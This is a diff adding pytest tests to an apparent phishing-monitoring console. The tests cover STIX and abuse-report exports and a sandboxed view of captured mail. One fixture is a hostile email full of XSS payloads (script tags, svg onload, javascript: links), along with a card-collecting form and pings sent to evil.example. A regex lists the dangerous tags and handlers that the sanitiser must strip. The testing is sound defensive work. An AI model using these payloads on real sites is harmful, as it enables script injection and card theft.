@@ -10,7 +10,11 @@ import json
 import re
 
 import pytest
+import stix2
 from fixed_set import Screen, check, signed_in
+from hypothesis import given
+from hypothesis import strategies as st
+from stix2patterns.validator import run_validator
 
 from factories import NOW, make_brand
 from forewarn.mail.reports.telling_apart import read_reports
@@ -162,6 +166,24 @@ def test_the_stix_bundle_is_of_form(brand):
     assert "[domain-name:value = 'lantern-parcel.example']" in patterns
 
 
+def test_the_stix_bundle_is_read_by_the_library_of_the_standard(brand):
+    found = sighting(
+        brand,
+        subject="Ihre Sendung wartet “jetzt” ☂",
+        links=("https://lantern-parcel.example/o'x\\y", "https://xn--lntern-bua.example/ä b", "javascript:alert(1)"),
+    )
+    url = f"/console/lantern/sightings/{found.pk}/export/stix/"
+    bundle = stix2.parse(signed_in(brand, "viewer").get(url).content.decode(), allow_custom=False, version="2.1")
+    kinds = [one["type"] for one in bundle.objects]
+    assert kinds.count("campaign") == kinds.count("identity") == 1
+    assert kinds.count("indicator") == kinds.count("relationship") >= 5
+    campaign = next(one for one in bundle.objects if one["type"] == "campaign")
+    assert campaign.first_seen <= campaign.last_seen
+    for one in bundle.objects:
+        if one["type"] == "indicator":  # the pattern's grammar is checked when it is parsed
+            assert run_validator(one.pattern, stix_version="2.1") == []
+
+
 def test_the_abuse_report_is_read_by_an_arf_parser(brand):
     found = sighting(brand, subject="Ihre Sendung für Müller wartet")
     raw = signed_in(brand, "viewer").get(f"/console/lantern/sightings/{found.pk}/export/arf/").content
@@ -173,6 +195,20 @@ def test_the_abuse_report_is_read_by_an_arf_parser(brand):
     assert kinds == ["text/plain", "message/feedback-report", "text/rfc822-headers"]
     assert parsed["To"] == "abuse@lantern-parcel.example"
     assert b"kim@" not in raw
+
+
+def test_each_host_gets_what_it_can_take_down(brand):
+    links = ("https://a.shop-fee.example/1", "https://b.shop-fee.example/2", "https://forms.gle/x")
+    found = sighting(brand, links=links, hosts=("a.shop-fee.example", "forms.gle", "sender.example"))
+    shown = page(brand, f"{found.pk}/")
+    assert shown.index("abuse@shop-fee.example") < shown.index("abuse@forms.gle") < shown.index("abuse@sender.example")
+    client = signed_in(brand, "viewer")
+    url = f"/console/lantern/sightings/{found.pk}/export/arf/"
+    raw = client.get(f"{url}?host=forms.gle").content
+    assert b"abuse@forms.gle" in raw and b"Reported-URI: https://forms.gle/x" in raw
+    assert b"shop-fee" not in raw.replace(b"shop-fee.example/pay", b"")
+    assert b"abuse@shop-fee.example" in client.get(url).content
+    assert client.get(f"{url}?host=elsewhere.example").status_code == 404
 
 
 def test_queries_do_not_grow_with_the_list(brand, django_assert_max_num_queries):
@@ -213,3 +249,65 @@ def test_the_words_proposed_are_those_of_the_brands_languages(brand):
     assert "nunca pedimos un pago por correo" in shown
     fields = {name: re.search(rf'<input[^>]*name="{name}"[^>]*>', shown)[0] for name in ("says_en", "says_es")}
     assert "parcel" in fields["says_en"] and "parcel" not in fields["says_es"]  # a quote is not translated
+
+
+# -- the copy in its frame ----------------------------------------------------------------------------------------------
+
+HOSTILE = (
+    b"From: Lantern <info@lantern-parcel.example>\r\nTo: kim@people.example\r\nSubject: Your parcel waits\r\n"
+    b"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
+    b"<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/'>"
+    b'<h1 style="color:red;background:url(https://evil.example/b.png);position:fixed" onclick=alert(1)>Pay now</h1>'
+    b"<script>alert(1)</script><svg onload=alert(1)><a xlink:href='https://evil.example/s'>x</a></svg>"
+    b"<style>@import url(https://evil.example/c.css)</style><img src=https://evil.example/p.png alt=Logo>"
+    b"<img src='data:image/svg+xml,<svg onload=alert(1)>'><img src='data:image/gif;base64,R0lGODlhAQABAAAAACw='>"
+    b"<form action=https://evil.example/f><input name=card><button>Go</button></form>"
+    b"<a href='https://evil.example/pay?u=kim' ping=https://evil.example/ping target=_top>Pay</a>"
+    b"<a href='jAvaScript:alert(1)'>x</a><iframe srcdoc='<script>alert(1)</script>'></iframe><math><mi//xlink:href='data:x'>"
+)
+
+
+def with_bytes(brand, raw=HOSTILE):
+    """A sighting with the mail it came with."""
+    from forewarn.intake.actions import receive
+    from forewarn.intake.rules import Source
+
+    receipt = receive(raw=raw, rcpt_to="check@mail.lantern.example", source=Source.UPLOAD, now=NOW)
+    found = sighting(brand)
+    Sighting.objects.filter(pk=found.pk).update(mail_id=receipt.mail_id)
+    return found
+
+
+def test_a_copy_is_shown_in_a_frame_that_does_nothing(brand):
+    found = with_bytes(brand)
+    assert 'sandbox loading="lazy" referrerpolicy="no-referrer"' in page(brand, f"{found.pk}/")
+    check(Screen(f"sightings/{found.pk}/frame/", "viewer"), brand)
+    answer = signed_in(brand, "viewer").get(f"/console/lantern/sightings/{found.pk}/frame/")
+    policy, shown = answer["Content-Security-Policy"], answer.content.decode()
+    assert policy.startswith("sandbox; default-src 'none';") and "unsafe-eval" not in policy
+    assert "Pay now" in shown and "color:red" in shown.replace(" ", "") and 'alt="Logo"' in shown
+    assert 'title="hxxps://evil[.]example/pay?u=kim"' in shown
+    assert shown.count("<img") == 3 and shown.count("src=") == 1
+    body = re.sub(r'title="[^"]*"', "", shown.partition("<body>")[2])
+    assert not re.search(
+        r"evil\.example|<(?:script|style|svg|math|form|input|button|iframe|base|meta|object|link)\b|\son\w+=|href|url\(|javascript:|ping=|target=|position",
+        body,
+        re.IGNORECASE,
+    ), body
+
+
+def test_without_html_or_bytes_there_is_no_frame(brand):
+    plain = HOSTILE.partition(b"\r\n\r\n")[0].replace(b"text/html", b"text/plain") + b"\r\n\r\nPay now"
+    for found in (sighting(brand), with_bytes(brand, plain)):
+        assert "<iframe" not in page(brand, f"{found.pk}/")
+        answer = signed_in(brand, "viewer").get(f"/console/lantern/sightings/{found.pk}/frame/")
+        assert answer.status_code == 404
+
+
+@given(st.text(alphabet="<>/=\"' \n&;:()abcdeonimgsrvhtpl\x00\ud7ff", max_size=200))
+def test_whatever_a_lure_writes_nothing_of_it_can_act(source):
+    from forewarn.console.sightings.showing import harmless
+
+    body = harmless(f"<div {source}>{source}</div>").partition("<body>")[2]
+    assert not re.search(r"<(?:script|style|svg|iframe|form|link|base|meta)\b", body, re.IGNORECASE)
+    assert not re.search(r"<[^>]*\s(?:on\w+|href)\s*=", re.sub(r'"[^"]*"', '""', body), re.IGNORECASE)
